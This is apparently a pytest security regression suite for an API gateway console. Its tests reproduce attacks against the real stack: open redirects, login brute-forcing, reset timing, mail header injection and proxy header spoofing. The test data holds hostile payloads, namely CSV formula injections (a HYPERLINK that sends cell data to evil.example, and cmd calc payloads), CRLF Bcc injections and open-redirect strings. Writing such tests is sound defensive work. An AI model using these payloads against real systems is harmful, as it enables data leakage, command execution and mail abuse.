"""The console under attack, each test reproducing the attack against the real stack:
development conveniences outside development mode or off loopback, open redirects, parallel login
guessing, reset timing, header injection and mail abuse, CSV formulas, stale reset links, key
ownership, and the limiter's client address behind proxies.  docs/security.md lists them."""
from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import ipaddress
import os
import socket
import statistics
import subprocess
import sys
import time
from typing import Iterator

import httpx
import pytest

from conftest import Gateway, free_base, wait_for
from test_console_keys_usage import create_key
from test_console_members import invite
from test_console_support import PASSWORD, ConsoleClient, mail_link, mails, new_email, signed_up
from control.console.launch import ConfigError
from control.console.limits import LOGIN_EMAIL, LOGIN_IP, Limit
from control.launcher import Stack
from control.settings import Settings


# ---- 1. development mode ------------------------------------------------------------------------

def _console_env(gateway: Gateway, **overrides: str) -> dict[str, str]:
    env = gateway.stack.child_env()
    env.update({"GATEWAY_DEV": "0", "GATEWAY_SMTP_HOST": "", "GATEWAY_PAYMENT_PROVIDER": "",
                "GATEWAY_HOST": "0.0.0.0", "GATEWAY_CONSOLE_PORT": str(free_base(span=1))})
    env.update(overrides)
    return env


def _start_refused(env: dict[str, str]) -> str:
    """The console's process, started with ``env``: it must exit at once with one line (never serve)."""
    port = env["GATEWAY_CONSOLE_PORT"]
    p = subprocess.Popen([sys.executable, "-m", "control.console"], env=env, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True)
    try:
        def settled() -> bool:
            if p.poll() is not None:
                return True
            with contextlib.suppress(httpx.HTTPError):
                return httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=1).status_code == 200
            return False
        wait_for(settled, timeout=30)
        assert p.poll() is not None, "the console started and serves"
        _, err = p.communicate(timeout=10)
    finally:
        if p.poll() is None:
            p.kill()
            p.communicate()
    assert p.returncode != 0
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert len(lines) == 1, err
    assert "GATEWAY_DEV=1" in lines[0]
    return lines[0]


def test_no_smtp_server_outside_development_mode_refuses_to_start(gateway: Gateway) -> None:
    """The takeover: GATEWAY_HOST=0.0.0.0 and no SMTP server used to serve /dev/mail to anyone."""
    line = _start_refused(_console_env(gateway, GATEWAY_PAYMENT_PROVIDER="p24", GATEWAY_P24_MERCHANT_ID="1"))
    assert "GATEWAY_SMTP_HOST" in line and "payment provider" not in line


def test_sandbox_payments_outside_development_mode_refuse_to_start(gateway: Gateway) -> None:
    """Free money: the sandbox provider used to be the default anywhere."""
    for provider in ("", "sandbox"):
        line = _start_refused(_console_env(gateway, GATEWAY_SMTP_HOST="127.0.0.1",
                                           GATEWAY_PAYMENT_PROVIDER=provider))
        assert "GATEWAY_PAYMENT_PROVIDER=p24" in line and "SMTP server" not in line


def test_stack_refuses_before_starting_anything(tmp_path: os.PathLike[str]) -> None:
    state = os.path.join(str(tmp_path), "state")
    stack = Stack(Settings.from_env(gateway_port=free_base(), state_dir=state, dev=False, smtp_host="",
                                    payment_provider=""))
    with pytest.raises(ConfigError, match="GATEWAY_DEV=1"):
        stack.start()
    assert stack.procs == {} and not os.path.exists(state)
    r = subprocess.run([sys.executable, "-m", "control.cli", "up"], capture_output=True, text=True, timeout=60,
                       env={**os.environ, "GATEWAY_DEV": "0", "GATEWAY_SMTP_HOST": "",
                            "GATEWAY_PAYMENT_PROVIDER": "", "GATEWAY_STATE_DIR": state,
                            "GATEWAY_PORT": str(free_base())})
    assert r.returncode != 0 and not os.path.exists(state)
    assert [ln for ln in r.stderr.splitlines() if ln.strip()] == [
        "gateway: not started: the console needs an SMTP server (GATEWAY_SMTP_HOST) and a payment provider"
        " (GATEWAY_PAYMENT_PROVIDER=p24 and GATEWAY_P24_*); the local mail capture and the sandbox payments"
        " exist only in development mode (GATEWAY_DEV=1)"]


def _non_loopback_address() -> str | None:
    for probe in ("10.255.255.255", "192.0.2.1", "172.31.255.255"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            try:
                s.connect((probe, 9))
            except OSError:
                continue
            addr = str(s.getsockname()[0])
        if not ipaddress.ip_address(addr).is_loopback and addr != "0.0.0.0":
            return addr
    return None


@pytest.fixture
def public_dev_console(gateway: Gateway) -> Iterator[int]:
    """A development-mode console listening on every address (GATEWAY_HOST=0.0.0.0)."""
    with gateway.another_console("console-public", gateway_host="0.0.0.0", dev=True) as port:
        yield port


def test_development_pages_answer_loopback_only(gateway: Gateway, public_dev_console: int) -> None:
    addr = _non_loopback_address()
    if addr is None:
        pytest.skip("this machine has no non-loopback IPv4 address to reach the console from")
    port = public_dev_console
    local, remote = f"http://127.0.0.1:{port}", f"http://{addr}:{port}"
    assert httpx.get(local + "/dev/mail.json").status_code == 200
    assert httpx.get(local + "/dev/mail").status_code == 200
    assert "/dev/mail" in httpx.get(local + "/login").text
    page = httpx.get(remote + "/login")
    assert page.status_code == 200 and "/dev/mail" not in page.text  # the console is served there, not the link
    for path in ("/dev/mail", "/dev/mail.json?to=someone@example.com", "/sandbox/pay/pay_0123456789abcdef0123"):
        assert httpx.get(remote + path).status_code == 404, path
        # a proxy on the same machine forwarding outside clients: not local either
        assert httpx.get(local + path, headers={"X-Forwarded-For": "203.0.113.9"}).status_code == 404, path
    assert httpx.post(remote + "/sandbox/pay/pay_0123456789abcdef0123", data={"action": "pay"}).status_code in (403, 404)


# ---- 2. open redirect after login ----------------------------------------------------------------

OPEN_REDIRECTS = ["/\t/evil.example/", "/\r/evil.example/", "/\n/evil.example/", "\t//evil.example/",
                  "/\\evil.example/", "\\\\evil.example/", "/\\/evil.example/", "//evil.example/",
                  "https://evil.example/", "javascript:alert(1)", "/\x00/evil.example/", "/\x0b/evil.example/",
                  "/\x7f/evil.example/", "https:/evil.example/", " //evil.example/"]


def test_next_after_login_never_leaves_the_site(gateway: Gateway) -> None:
    c, email, _ = signed_up(gateway)
    c.post("/logout")
    for nxt in OPEN_REDIRECTS:
        if "\x00" in nxt:  # refused whole (no page takes a NUL): no log-in, no redirect
            page = c.get("/login", params={"next": nxt})
            assert page.status_code == 400 and "The field “next” holds a character that cannot be used" in page.text
            c.get("/login")
            r = c.post("/login", {"email": email, "password": PASSWORD, "next": nxt})
            assert r.status_code == 400 and "gw_session" not in r.headers.get("set-cookie", ""), repr(nxt)
            continue
        page = c.get("/login", params={"next": nxt}).text
        assert 'name="next" value="/"' in page, repr(nxt)
        r = c.post("/login", {"email": email, "password": PASSWORD, "next": nxt})
        assert r.status_code == 303 and r.headers["location"] == "/", (repr(nxt), r.status_code, r.headers.get("location"))
        c.post("/logout")
    r = c.post("/login", {"email": email, "password": PASSWORD, "next": "/usage?from=2026-01-01&key=k#x"})
    assert r.headers["location"] == "/usage?from=2026-01-01&key=k#x"  # a path of the site still works


# ---- 3. the login limiter under concurrency ------------------------------------------------------

def parallel_logins(c: ConsoleClient, attempts: list[tuple[str, str]]) -> list[httpx.Response]:
    """Every (e-mail, password) posted at once, from the client's address with its cookies and token."""
    c.get("/login")
    headers = {"Cookie": "; ".join(f"{k}={v}" for k, v in c.jar.items())}

    async def go() -> list[httpx.Response]:
        async with httpx.AsyncClient(base_url=c.base, timeout=120, headers=headers,
                                     limits=httpx.Limits(max_connections=len(attempts)),
                                     transport=httpx.AsyncHTTPTransport(local_address=c.address)) as h:
            return list(await asyncio.gather(*(
                h.post("/login", data={"email": e, "password": p, "csrf": c.csrf}) for e, p in attempts)))
    return asyncio.run(go())


def statuses(rs: list[httpx.Response]) -> dict[int, int]:
    out: dict[int, int] = {}
    for r in rs:
        out[r.status_code] = out.get(r.status_code, 0) + 1
    return out


# A burst of 2N + 10 attempts against a limit of N crosses it twice over: every one past the N-th must
# be refused.  Larger bursts prove nothing more and cost seconds of the suite each.
def burst(limit: Limit) -> int:
    return 2 * limit.max + 10


def test_parallel_wrong_passwords_hit_the_per_address_limit(gateway: Gateway) -> None:
    _, email, _ = signed_up(gateway)
    n = burst(LOGIN_EMAIL)  # below LOGIN_IP's limit: every refusal is the per-address limit's
    assert n < LOGIN_IP.max
    got = statuses(parallel_logins(ConsoleClient(gateway.console), [(email, f"wrong password {i}") for i in range(n)]))
    assert got.get(401, 0) <= LOGIN_EMAIL.max and got.get(429, 0) >= n - LOGIN_EMAIL.max, got
    assert set(got) <= {401, 429} and sum(got.values()) == n, got
    # and the right password is refused too, from anywhere, for the rest of the window
    other = ConsoleClient(gateway.console)
    other.get("/login")
    assert other.post("/login", {"email": email, "password": PASSWORD}).status_code == 429


def test_the_right_password_among_parallel_guesses_logs_in_only_within_the_limit(gateway: Gateway) -> None:
    _, email, _ = signed_up(gateway)
    n = burst(LOGIN_EMAIL)
    attempts = [(email, f"wrong password {i}") for i in range(n - 1)] + [(email, PASSWORD)]
    got = statuses(parallel_logins(ConsoleClient(gateway.console), attempts))
    assert got.get(429, 0) >= n - LOGIN_EMAIL.max and got.get(401, 0) + got.get(303, 0) <= LOGIN_EMAIL.max, got
    assert gateway.sql("SELECT count(*) AS n FROM console_sessions s JOIN users u ON u.id = s.user_id"
                       " WHERE u.email = $1", email)[0]["n"] <= got.get(303, 0) + 1  # + the sign-up's session


def test_parallel_wrong_passwords_from_one_address_hit_the_per_client_limit(gateway: Gateway) -> None:
    c = ConsoleClient(gateway.console)
    n = burst(LOGIN_IP)  # each attempt names another address: only the per-client limit can refuse
    got = statuses(parallel_logins(c, [(new_email(), "wrong password") for _ in range(n)]))
    assert got.get(401, 0) <= LOGIN_IP.max and got.get(429, 0) >= n - LOGIN_IP.max, got
    assert set(got) <= {401, 429} and sum(got.values()) == n, got
    # another client's address is not locked out
    _, email, _ = signed_up(gateway)
    other = ConsoleClient(gateway.console)
    other.get("/login")
    assert other.post("/login", {"email": email, "password": PASSWORD}).status_code == 303


# ---- 4. reset timing -----------------------------------------------------------------------------

def test_reset_answers_as_fast_for_unknown_and_existing_addresses(gateway: Gateway) -> None:
    """The reset mail used to be sent inline: ~27 ms for an account, ~3 ms for no account."""
    n = 12
    known = [new_email() for _ in range(n)]
    gateway.sql("INSERT INTO users (id, email, password_hash, verified_at)"
                " SELECT 'usr_t' || md5(e), e, 'x', now() FROM unnest($1::text[]) AS e", known)
    unknown = [new_email() for _ in range(n)]
    c = ConsoleClient(gateway.console)
    c.get("/reset")
    for e in (new_email(), new_email()):  # warm-up
        c.post("/reset", {"email": e})
    times: dict[str, list[float]] = {"known": [], "unknown": []}
    for k, u in zip(known, unknown):
        for kind, email in (("known", k), ("unknown", u)):
            t0 = time.perf_counter()
            r = c.post("/reset", {"email": email})
            times[kind].append(time.perf_counter() - t0)
            assert r.status_code == 303 and r.headers["location"] == "/login?msg=reset_sent"
            if kind == "known":  # the mail still goes out; measured after it, not beside it
                mail_link(gateway, email, "/reset/")
    known_ms, unknown_ms = (statistics.median(times[k]) * 1000 for k in ("known", "unknown"))
    assert abs(known_ms - unknown_ms) <= 3 + 0.25 * unknown_ms, (known_ms, unknown_ms)
    assert all(mails(gateway, u) == [] for u in unknown)


# ---- 5. mail abuse: header injection, angle addresses, sign-up and invitation limits ---------------

BAD_EMAILS = ["target@corp.example<x@y.example>", "x@y.example <target@corp.example>", "<target@corp.example>",
              "Target <target@corp.example>", "target@corp.example\r\nBcc: x@y.example",
              "target@corp.example\nBcc:x@y.example", "target@corp.example\rBcc:x@y.example",
              "target@corp.example\r\n", "target@corp.example\t", "target@corp.example,x@y.example",
              "target@corp.example;x@y.example", '"target@corp.example"@y.example', "target@corp.example (x)"]
BAD_NAMES = ["Acme\r\nBcc: x@y.example", "Acme\nBcc: x@y.example", "Acme\rX", "Acme <x@y.example>",
             "Acme\x00", "Acme\u2028X", "Acme\u202eX", "Acme\x1b[31m"]


def counts(gw: Gateway) -> dict[str, int]:
    return {t: int(gw.sql(f"SELECT count(*) AS n FROM {t}")[0]["n"])
            for t in ("users", "orgs", "memberships", "invites", "api_keys", "email_tokens")}


def refused(page: str, why: str, value: str) -> bool:
    """The page refuses ``value`` for ``why``, or, if it holds a NUL, as a character no page takes."""
    return ("holds a character that cannot be used" if "\x00" in value else why) in page


def test_injected_addresses_and_names_are_refused_before_anything_is_written(gateway: Gateway) -> None:
    owner, _, _ = signed_up(gateway)
    before = counts(gateway)
    anon = ConsoleClient(gateway.console)
    for bad in BAD_EMAILS:
        anon.get("/signup")
        r = anon.post("/signup", {"email": bad, "password": PASSWORD, "org": "Acme"})
        assert r.status_code == 400 and refused(r.text, "valid e-mail address", bad), repr(bad)
        anon.get("/reset")
        r = anon.post("/reset", {"email": bad})
        assert r.status_code == 400 and refused(r.text, "valid e-mail address", bad), repr(bad)
        owner.get("/members")
        r = owner.post("/members/invite", {"email": bad, "role": "member"})
        assert r.status_code == 400 and refused(r.text, "valid e-mail address", bad), repr(bad)
    for bad in BAD_NAMES:
        anon.get("/signup")
        r = anon.post("/signup", {"email": new_email(), "password": PASSWORD, "org": bad})
        assert r.status_code == 400 and refused(r.text, "line breaks", bad), repr(bad)
        owner.get("/keys")
        r = owner.post("/keys", {"name": bad})
        assert r.status_code == 400 and refused(r.text, "line breaks", bad), repr(bad)
    assert counts(gateway) == before
    # and nothing went out to the target (the mails that are sent, are sent off the request path:
    # a sign-up with a clean address is mailed, and by then the bad ones would have been too)
    clean = new_email()
    anon.get("/signup")
    assert anon.post("/signup", {"email": clean, "password": PASSWORD, "org": "Acme"}).status_code == 303
    mail_link(gateway, clean, "/confirm/")
    assert mails(gateway, "target@corp.example") == [] and mails(gateway, "x@y.example") == []


def test_sign_ups_from_one_client_address_are_limited(gateway: Gateway) -> None:
    c = ConsoleClient(gateway.console)
    c.get("/signup")
    for _ in range(10):
        assert c.post("/signup", {"email": new_email(), "password": PASSWORD, "org": "Acme"}).status_code == 303
    email = new_email()
    r = c.post("/signup", {"email": email, "password": PASSWORD, "org": "Acme"})
    assert r.status_code == 429 and "Too many sign-ups" in r.text
    assert gateway.sql("SELECT count(*) AS n FROM users WHERE email = $1", email)[0]["n"] == 0
    other = ConsoleClient(gateway.console)  # another client is not limited
    other.get("/signup")
    assert other.post("/signup", {"email": email, "password": PASSWORD, "org": "Acme"}).status_code == 303


def test_invitations_are_limited_per_address_and_per_organisation(gateway: Gateway) -> None:
    owner, _, org = signed_up(gateway)
    target = new_email()
    owner.get("/members")
    for _ in range(3):
        assert owner.post("/members/invite", {"email": target, "role": "member"}).status_code == 303
    r = owner.post("/members/invite", {"email": target, "role": "member"})
    assert r.status_code == 429 and "Too many invitations" in r.text
    # 20 attempts per organisation and hour (the refused one above counted too)
    got = [owner.post("/members/invite", {"email": new_email(), "role": "member"}).status_code for _ in range(20)]
    assert got == [303] * 16 + [429] * 4, got
    # the three to ``target`` are one pending invitation: each newer one replaced the one before
    assert gateway.sql("SELECT count(*) AS n FROM invites WHERE org_id = $1", org)[0]["n"] == 17


# ---- 6. CSV formula injection --------------------------------------------------------------------

def test_usage_csv_cells_never_start_a_formula(gateway: Gateway) -> None:
    c, _, org = signed_up(gateway)
    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
             "plain name"]
    rids = {}
    for name in names:
        _, key = create_key(c, name)
        r = httpx.post(gateway.v1 + "/chat/completions", headers={"Authorization": f"Bearer {key}"},
                       json={"model": "polish-fast", "messages": [{"role": "user", "content": "x"}]}, timeout=30)
        assert r.status_code == 200
        rids[r.headers["x-request-id"]] = name
    wait_for(lambda: len(gateway.sql("SELECT 1 FROM usage_records WHERE org_id = $1", org)) == len(names), timeout=15)
    text = c.get("/usage.csv").text
    got = {row["request_id"]: row for row in csv.DictReader(io.StringIO(text))}
    assert set(got) == set(rids)
    for rid, name in rids.items():
        want = name if name == "plain name" else "'" + name
        assert got[rid]["key_name"] == want, (got[rid]["key_name"], name)
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


# ---- 7. sessions and members ---------------------------------------------------------------------

def test_a_reset_spends_every_reset_link_of_the_account(gateway: Gateway) -> None:
    _, email, _ = signed_up(gateway)
    c = ConsoleClient(gateway.console)
    c.get("/reset")
    assert c.post("/reset", {"email": email}).status_code == 303
    older = mail_link(gateway, email, "/reset/")
    assert c.post("/reset", {"email": email}).status_code == 303
    newer = mail_link(gateway, email, "/reset/", count=2)
    assert older != newer
    c.get(newer)
    assert c.post(newer, {"password": "a brand new password"}).status_code == 303
    assert c.get(older).status_code == 400
    assert c.post(older, {"password": "the attacker's password"}).status_code == 400
    c.get("/login")
    assert c.post("/login", {"email": email, "password": "a brand new password"}).status_code == 303


def joined_member(gw: Gateway, owner: ConsoleClient) -> tuple[ConsoleClient, str]:
    email = new_email()
    link = invite(gw, owner, email)
    m = ConsoleClient(gw.console)
    m.get(link)
    assert m.post(link, {"password": PASSWORD}, follow=True).status_code == 200 and m.logged_in
    return m, gw.sql("SELECT id FROM users WHERE email = $1", email)[0]["id"]


def key_works(gw: Gateway, key: str) -> bool:
    r = httpx.post(gw.v1 + "/chat/completions", headers={"Authorization": f"Bearer {key}"},
                   json={"model": "polish-fast", "messages": [{"role": "user", "content": "x"}]}, timeout=30)
    assert r.status_code in (200, 401), r.text
    return r.status_code == 200


def test_members_revoke_only_their_own_keys_owners_any(gateway: Gateway) -> None:
    owner, owner_email, org = signed_up(gateway)
    member, member_id = joined_member(gateway, owner)
    owner_kid, owner_key = create_key(owner, "owner's")
    mine_kid, _ = create_key(member, "member's")
    other_kid, _ = create_key(member, "member's other")
    owner_id = gateway.sql("SELECT id FROM users WHERE email = $1", owner_email)[0]["id"]
    assert {r["id"]: r["created_by"] for r in gateway.sql("SELECT id, created_by FROM api_keys WHERE org_id = $1", org)} == {
        owner_kid: owner_id, mine_kid: member_id, other_kid: member_id}
    page = member.get("/keys").text
    assert f"/keys/{owner_kid}/revoke" not in page and f"/keys/{mine_kid}/revoke" in page
    assert owner_email in page  # the creator is shown
    assert member.post(f"/keys/{owner_kid}/revoke").status_code == 403
    assert gateway.sql("SELECT revoked_at FROM api_keys WHERE id = $1", owner_kid) == [{"revoked_at": None}]
    assert key_works(gateway, owner_key)
    member.get("/keys")
    assert member.post(f"/keys/{mine_kid}/revoke").status_code == 303
    owner.get("/keys")
    assert owner.post(f"/keys/{other_kid}/revoke").status_code == 303
    assert all(r["revoked_at"] is not None for r in gateway.sql(
        "SELECT revoked_at FROM api_keys WHERE id = ANY($1::text[])", [mine_kid, other_kid]))


def test_removing_a_member_revokes_their_keys_unless_the_owner_keeps_them(gateway: Gateway) -> None:
    owner, _, org = signed_up(gateway)
    gone, gone_id = joined_member(gateway, owner)
    kept, kept_id = joined_member(gateway, owner)
    _, gone_key = create_key(gone, "leaver's")
    _, kept_key = create_key(kept, "stayer's")
    assert key_works(gateway, gone_key) and key_works(gateway, kept_key)
    page = owner.get("/members").text
    assert 'name="keep_keys"' in page and "checked" not in page.split('name="keep_keys"')[1].split(">")[0]
    r = owner.post(f"/members/{gone_id}/remove", follow=True)
    assert "keys they created are revoked" in r.text
    wait_for(lambda: not key_works(gateway, gone_key), timeout=5)
    owner.get("/members")
    r = owner.post(f"/members/{kept_id}/remove", {"keep_keys": "1"}, follow=True)
    assert "still work" in r.text
    assert key_works(gateway, kept_key)
    assert gateway.sql("SELECT count(*) AS n FROM memberships WHERE org_id = $1", org) == [{"n": 1}]


# ---- 8. the limiters' client address behind proxies ------------------------------------------------

def parallel_posts(base: str, address: str, c: ConsoleClient, path: str,
                   calls: list[tuple[dict[str, str], dict[str, str]]]) -> list[httpx.Response]:
    """(form, headers) posted at once from ``address`` with ``c``'s cookies and CSRF token."""
    cookie = "; ".join(f"{k}={v}" for k, v in c.jar.items())

    async def go() -> list[httpx.Response]:
        async with httpx.AsyncClient(base_url=base, timeout=120, limits=httpx.Limits(max_connections=len(calls)),
                                     transport=httpx.AsyncHTTPTransport(local_address=address)) as h:
            return list(await asyncio.gather(*(
                h.post(path, data={**form, "csrf": c.csrf}, headers={**hdrs, "Cookie": cookie}) for form, hdrs in calls)))
    return asyncio.run(go())


@pytest.fixture
def console_behind_one_proxy(gateway: Gateway) -> Iterator[str]:
    """A console told that one proxy (appending X-Forwarded-For) stands in front of it."""
    with gateway.another_console("console-hops", trusted_hops=1) as port:
        yield f"http://127.0.0.1:{port}"


def test_behind_a_proxy_one_client_locked_out_does_not_lock_out_the_others(
        gateway: Gateway, console_behind_one_proxy: str) -> None:
    url = console_behind_one_proxy
    _, email, _ = signed_up(gateway)
    proxy = "127.0.0.1"  # every request comes from the proxy's one address
    c = ConsoleClient(url, address=proxy)
    c.get("/login")
    attacker = {"X-Forwarded-For": "198.51.100.7"}
    got = statuses(parallel_posts(url, proxy, c, "/login",
                                  [({"email": new_email(), "password": "wrong password"}, attacker)] * 40))
    assert got.get(401, 0) <= 30 and got.get(429, 0) >= 10, got
    # the attacker stays locked out, whatever it writes left of what the proxy appended
    for spoof in ("203.0.113.5", "203.0.113.5, 192.0.2.44", "unknown"):
        r = parallel_posts(url, proxy, c, "/login", [({"email": email, "password": PASSWORD},
                                                      {"X-Forwarded-For": f"{spoof}, 198.51.100.7"})])[0]
        assert r.status_code == 429, spoof
    # another client behind the same proxy logs in
    r = parallel_posts(url, proxy, c, "/login", [({"email": email, "password": PASSWORD},
                                                  {"X-Forwarded-For": "198.51.100.8"})])[0]
    assert r.status_code == 303


def test_without_trusted_hops_the_forwarded_header_is_ignored(gateway: Gateway) -> None:
    c = ConsoleClient(gateway.console)
    c.get("/login")
    got = statuses(parallel_posts(gateway.console, c.address, c, "/login",
                                  [({"email": new_email(), "password": "wrong password"},
                                    {"X-Forwarded-For": f"198.51.100.{i}"}) for i in range(40)]))
    assert got.get(401, 0) <= 30 and got.get(429, 0) >= 10, got
    _, email, _ = signed_up(gateway)
    r = parallel_posts(gateway.console, c.address, c, "/login", [({"email": email, "password": PASSWORD},
                                                                  {"X-Forwarded-For": "198.51.100.99"})])[0]
    assert r.status_code == 429
